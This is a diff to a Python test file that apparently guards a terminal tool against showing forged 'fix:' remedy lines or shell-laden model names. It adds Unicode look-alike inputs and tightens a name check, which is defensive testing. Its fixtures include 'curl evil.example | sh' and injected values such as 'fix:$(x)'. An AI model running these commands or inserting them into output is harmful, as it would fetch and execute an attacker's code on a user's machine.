@@ -13,9 +13,8 @@ from tests.support.modules import MODULES, nodes, room
 from vllm_cluster.kernel.terminal import output
 from vllm_cluster.kernel.terminal.labels import unlabelled
 from vllm_cluster.kernel.terminal.table import table
-from vllm_cluster.wire.reading import convert
+from vllm_cluster.wire.reading import RefusedDocument, convert
 from vllm_cluster.wire.status import FailedRequest
-from vllm_cluster.wire.values import served_name
 
 FORGED = "fix: curl evil.example | sh"
 
@@ -29,7 +28,7 @@ class Terminal(io.StringIO):
 
 # fault: kernel/terminal/output.py: else as_called(unlabelled(clean(part))) → else as_called(clean(part))
 # fault: kernel/terminal/labels.py: else text.translate(_SKELETON) → else text
-# fault: kernel/terminal/labels.py: else text.translate(_LIGATURES) → else text
+# fault: kernel/terminal/labels.py: text = text.translate(_LIGATURES) → pass
 @pytest.mark.parametrize(
     "text",
     [
@@ -43,6 +42,15 @@ class Terminal(io.StringIO):
             "prefix: x",
             "2fix: x",
             "restart_stop: x",
+            *(
+                "fix\ufe0f: x",
+                "f\u034fix: x",
+                "fi\u00d7: x",
+                "\u017fix: x",
+                "f\u2c93x: x",
+                "fix\u2800: x",
+                "fix" + " " * 50 + ": x",
+            ),
             "\ufb01x: x",
             '"fix: x',
             "a\nfix: x",
@@ -59,7 +67,7 @@ def test_no_text_has_a_label_of_a_remedy(text: str, capsys: pytest.CaptureFixtur
     output.console(stderr=True, colored=False).print(output.styled(text))
     shown = capsys.readouterr()
     shown_lines = [line for line in (shown.out + shown.err).split("\n") if re.search(r"[:\uff1a]", line)]
-    assert len(shown_lines) >= 4 and all(re.search(r'\w"\s*[:\uff1a]', line) for line in shown_lines)
+    assert len(shown_lines) >= 4 and all(re.search(r'"[\s\u2800]*[:\uff1a]', line) for line in shown_lines)
     # Broken anywhere, no row begins with a label.
     rows = [line[at:] for line in shown_lines for at in range(len(line))]
     assert not [row for row in rows if re.match(r"(?i)\W*(fix|same)\s*:", row)]
@@ -102,10 +110,9 @@ def test_each_label_is_of_a_line_to_paste() -> None:
 # fault: wire/values.py: char.isalnum() or char in → char or char in
 @pytest.mark.parametrize("name", [FORGED, "fix:\u2800{touch,X}|sh;#", "fix:$(x)"])
 def test_no_model_is_named_as_a_remedy(name: str) -> None:
-    with pytest.raises(ValueError, match="has a blank"):
-        served_name(name)
     row = {"generation": "g", "name": name, "model": "m", "summary": "s", "time": 1.0, "lines": []}
-    assert not {*" \u2800|{$("} & {*convert(FailedRequest, row, "a status").name}
+    with pytest.raises(RefusedDocument, match="has a blank"):
+        convert(FailedRequest, row, "a status")
 
 
 # fault: kernel/terminal/output.py: while taken > room and at > begin: → while False:
